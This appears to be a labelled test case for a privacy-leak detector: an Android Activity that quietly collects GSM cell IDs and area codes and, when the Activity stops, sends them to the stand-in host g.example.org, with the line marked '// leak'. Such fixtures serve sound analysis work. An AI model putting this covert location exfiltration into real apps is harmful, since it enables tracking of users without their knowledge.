package thieves;

import android.app.Activity;
import android.content.*;
import android.os.*;
import android.telephony.*;
import android.telephony.gsm.GsmCellLocation;

import java.net.*;
import java.util.*;

/** Cells around, by calls of three ages. */
public class Gsm extends Activity {
    static final class Cell {
        final int id, area;

        Cell(int id, int area) {
            this.id = id;
            this.area = area;
        }

        @Override
        public String toString() {
            return id + "," + area;
        }
    }

    private final PhoneStateListener listener =
            new PhoneStateListener() {
                @Override
                public void onCellLocationChanged(CellLocation l) {
                    if (l instanceof GsmCellLocation) cells.add(new Cell(((GsmCellLocation) l).getCid(), ((GsmCellLocation) l).getLac()));
                }

                @Override
                public void onSignalStrengthsChanged(SignalStrength s) {
                    strength = s.getGsmSignalStrength();
                }
            };
    private final LinkedList<Cell> cells = new LinkedList<Cell>();
    private int strength;

    @Override
    protected void onStart() {
        super.onStart();
        ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).listen(listener, PhoneStateListener.LISTEN_CELL_LOCATION);
    }

    @Override
    protected void onStop() {
        super.onStop();
        final String all = cells.toString();
        AsyncTask.execute(
                new Runnable() {
                    public void run() {
                        try {
                            new URL("http://g.example.org/c?" + all).openConnection().getInputStream(); // leak
                            new URL("http://g.example.org/s?" + strength).openConnection().getInputStream(); // no leak
                        } catch (Exception e) {
                        }
                    }
                });
    }
}
